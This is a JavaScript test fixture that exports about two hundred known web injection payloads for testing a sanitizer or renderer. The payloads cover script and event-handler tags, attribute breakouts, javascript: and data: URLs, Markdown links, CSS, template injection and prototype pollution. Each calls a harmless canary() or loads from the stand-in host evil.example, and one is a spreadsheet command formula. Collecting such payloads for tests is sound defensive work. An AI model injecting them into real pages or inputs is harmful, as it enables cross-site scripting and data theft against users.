// Two hundred texts that would run, or call home, where somebody made HTML, an attribute, an address, a style or a
// template of them. Of the kinds that are publicly known; `canary()` is what each tries to call, and EVIL where each
// tries to go. Written for these tests.
export const EVIL = 'https://evil.example'

const CALL = 'canary(1)'
const url = (path) => `${EVIL}/${path}`

/** Elements whose handlers run by themselves. */
const byThemselves = [
  `<script>${CALL}</script>`, `<SCRIPT>${CALL}</SCRIPT>`, `<script src=${url('a.js')}></script>`, `<script type=module>${CALL}</script>`,
  `<script\x20type="text/javascript">${CALL};</script>`, `<script\n>${CALL}</script\n>`, `<scr<script>ipt>${CALL}</scr</script>ipt>`, `</script><script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`, `<IMG SRC=x ONERROR=${CALL}>`, `<img/src=x/onerror=${CALL}>`, `<img src=x:x onerror="${CALL}">`, `<img src='x' onerror='${CALL}'`, `<img src=${url('a.png')}>`, `<image src=x onerror=${CALL}>`, `<img srcset=x onerror=${CALL}>`,
  `<img src="x\` \`<script>${CALL}</script>"\` \`>`, `<img """><script>${CALL}</script>">`, `<img src onerror =  "${CALL}">`, `<img src=1 href=1 onerror="javascript:${CALL}"></img>`,
  `<svg onload=${CALL}>`, `<svg/onload=${CALL}>`, `<svg><script>${CALL}</script></svg>`, `<svg><script href=${url('a.js')} /></svg>`, `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`, `<svg><set onbegin=${CALL} attributename=x>`,
  `<svg><a xlink:href="javascript:${CALL}"><text x=20 y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${CALL}</script></svg>#x">`, `<svg><foreignObject><script>${CALL}</script></foreignObject></svg>`, `<svg><style><img src=x onerror=${CALL}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`, `<math href="javascript:${CALL}">x</math>`, `<math><maction actiontype="statusline#${url('a')}" xlink:href="javascript:${CALL}">x</maction></math>`, `<math><mi//xlink:href="data:x,<script>${CALL}</script>">`,
  `<body onload=${CALL}>`, `<body onpageshow=${CALL}>`, `<body background="javascript:${CALL}">`, `<body onresize=${CALL}>`, `<body onhashchange=${CALL}><a href=#x>`, `<html onmousemove=${CALL}>`,
  `<iframe src="javascript:${CALL}"></iframe>`, `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`, `<iframe src=${url('frame')}></iframe>`, `<iframe onload=${CALL}></iframe>`, `<iframe src="data:text/html,<script>parent.${CALL}</script>"></iframe>`,
  `<object data="javascript:${CALL}"></object>`, `<object data=${url('a.swf')}></object>`, `<object onerror=${CALL} data=x></object>`, `<embed src="javascript:${CALL}">`, `<embed src=${url('a.svg')}>`, `<applet code=${url('a.class')}>`,
  `<video src=x onerror=${CALL}></video>`, `<video><source onerror=${CALL}></video>`, `<video poster=${url('p.png')}></video>`, `<audio src=x onerror=${CALL}>`, `<audio autoplay src=${url('a.mp3')}>`, `<track default src=${url('a.vtt')} oncuechange=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`, `<select autofocus onfocus=${CALL}>`, `<textarea autofocus onfocus=${CALL}>`, `<button autofocus onfocus=${CALL}>x</button>`, `<keygen autofocus onfocus=${CALL}>`, `<input type=image src=${url('i.png')}>`, `<input onblur=${CALL} autofocus><input autofocus>`,
  `<details open ontoggle=${CALL}>`, `<marquee onstart=${CALL}>x</marquee>`, `<marquee loop=1 width=0 onfinish=${CALL}>`, `<dialog open oncancel=${CALL}>`, `<style onload=${CALL}></style>`, `<link rel=stylesheet href=${url('a.css')} onerror=${CALL}>`, `<link rel=import href=${url('i.html')}>`, `<link rel=prefetch href=${url('p')}>`, `<link rel=dns-prefetch href=${url('')}>`,
  `<meta http-equiv=refresh content="0;url=${url('m')}">`, `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`, `<meta http-equiv="set-cookie" content="x=1">`, `<meta charset=utf-7>+ADw-script+AD4-${CALL}+ADw-/script+AD4-`, `<base href=${url('')}>`, `<base href="javascript:/a/+${CALL}//">`,
  `<form action="javascript:${CALL}"><button>x</button></form>`, `<form action=${url('f')} id=f></form><input form=f>`, `<isindex action="javascript:${CALL}" type=image>`, `<button formaction="javascript:${CALL}">x</button>`,
  `<template><script>${CALL}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`, `<title></title><img src=x onerror=${CALL}>`, `<textarea></textarea><img src=x onerror=${CALL}>`, `<xmp><img src=x onerror=${CALL}></xmp>`, `<plaintext><img src=x onerror=${CALL}>`, `<!--><img src=x onerror=${CALL}>-->`, `<![CDATA[<script>${CALL}</script>]]>`, `<?xml-stylesheet href="javascript:${CALL}"?>`, `<!DOCTYPE x [<!ENTITY e SYSTEM "${url('e')}">]><x>&e;</x>`,
]

/** Attributes that somebody breaks out of. */
const breakouts = [
  `"><script>${CALL}</script>`, `'><script>${CALL}</script>`, `"><img src=x onerror=${CALL}>`, `'><img src=x onerror=${CALL}>`, `" onmouseover="${CALL}`, `' onmouseover='${CALL}`, `" autofocus onfocus="${CALL}" x="`, `' autofocus onfocus='${CALL}' x='`,
  `\`><img src=x onerror=${CALL}>`, `--><img src=x onerror=${CALL}>`, `]]><img src=x onerror=${CALL}>`, `*/</style><script>${CALL}</script>`, `</title><script>${CALL}</script>`, `</textarea><script>${CALL}</script>`, `</pre><script>${CALL}</script>`, `</code></pre><img src=x onerror=${CALL}>`,
  `" style="background:url(${url('s')})`, `" accesskey="x" onclick="${CALL}`, `x" onanimationstart="${CALL}" style="animation:fade 1s`, `\\"><script>${CALL}</script>`, `%22%3E%3Cscript%3E${CALL}%3C/script%3E`, `&quot;&gt;&lt;img src=x onerror=${CALL}&gt;`, `&#34;&#62;&#60;img src=x onerror=${CALL}&#62;`,
]

/** Addresses, bare and as Markdown has them. */
const addresses = [
  `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, ` javascript:${CALL}`, `java\tscript:${CALL}`, `java\nscript:${CALL}`, `javascript&colon;${CALL}`, `javascript&#58;${CALL}`, `&#106;avascript:${CALL}`, `javascript://%0a${CALL}`, `vbscript:${CALL}`, `data:text/html,<script>${CALL}</script>`, `data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=`, `data:image/svg+xml,<svg onload=${CALL}>`, `blob:${url('b')}`, `file:///etc/passwd`, `view-source:javascript:${CALL}`, `livescript:${CALL}`, `feed:javascript:${CALL}`, `intent://x#Intent;scheme=javascript;end`,
]
const inMarkdown = [
  ...addresses.map((address) => `[x](${address})`),
  `[x](<javascript:${CALL}>)`, `<javascript:${CALL}>`, `[x]: javascript:${CALL}\n\n[x]`, `![x](javascript:${CALL})`, `![x](${url('p.png')})`, `![x][p]\n\n[p]: ${url('q.png')}`, `![x](${url('p.png')} "a" onerror="${CALL}")`, `[x](${url('l')} "onmouseover=${CALL}")`, `[![x](${url('p.png')})](javascript:${CALL})`, `[x](//evil.example)`, `[x](/api/session "y")`, `[x](\\javascript:${CALL})`,
  `| <img src=x onerror=${CALL}> |\n|--|\n| [x](javascript:${CALL}) |`, `\`\`\`html"><script>${CALL}</script>\n<script>${CALL}</script>\n\`\`\``, `\`\`\`<img src=x onerror=${CALL}>\nx\n\`\`\``, `~~~ onload=${CALL}\nx\n~~~`, `[^x]: <img src=x onerror=${CALL}>\n\n[^x]`, `- [x] <img src=x onerror=${CALL}>`, `# <svg onload=${CALL}>`, `> <script>${CALL}</script>`, `<div markdown=1><script>${CALL}</script></div>`,
]

/** Formulas, styles, templates, prototypes, logs and spreadsheets. */
const others = [
  `\\(\\href{javascript:${CALL}}{x}\\)`, `\\(\\url{${url('t')}}\\)`, `$$\\includegraphics{${url('t.png')}}$$`, `\\(\\htmlData{onload=${CALL}}{x}\\)`, `\\(\\htmlStyle{background:url(${url('t')})}{x}\\)`, `\\(\\text{<img src=x onerror=${CALL}>}\\)`, `\\(\\unicode{<script>${CALL}</script>}\\)`, `\\[\\def\\x{\\x\\x}\\x\\]`,
  `<style>@import '${url('i.css')}';</style>`, `<style>*{background:url(${url('b')})}</style>`, `<div style="width:expression(${CALL})">`, `<div style="background-image:url(javascript:${CALL})">`, `<div style="-moz-binding:url(${url('x.xml')}#x)">`, `<style>@font-face{font-family:x;src:url(${url('f.woff')})}</style>`,
  `{{constructor.constructor('${CALL}')()}}`, `{{$emit.constructor('${CALL}')()}}`, `{{_c.constructor('${CALL}')()}}`, `\${${CALL}}`, `<%= ${CALL} %>`, `#{${CALL}}`, `[[${CALL}]]`, `<div v-html="'<img src=x onerror=${CALL}>'">`, `<div @click="${CALL}" v-on:mount="${CALL}">`, `<component :is="'script'">${CALL}</component>`, `<x ng-app>{{$eval.constructor('${CALL}')()}}</x>`,
  `__proto__`, `constructor`, `{"__proto__":{"innerHTML":"<img src=x onerror=${CALL}>"}}`, `';${CALL}//`, `";${CALL}//`, `\`;${CALL}//`, `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`, `\u2028${CALL}\u2029`, `\u202e>tpircs<`, `\ufeff<script>${CALL}</script>`, `＜script＞${CALL}＜/script＞`, `ʺ><img src=x onerror=${CALL}>`, `=cmd|' /C calc'!A0`, `\u0000<script>${CALL}</script>`.replace('\u0000', '\u200b'),
]

export const payloads = [...byThemselves, ...breakouts, ...addresses, ...inMarkdown, ...others]
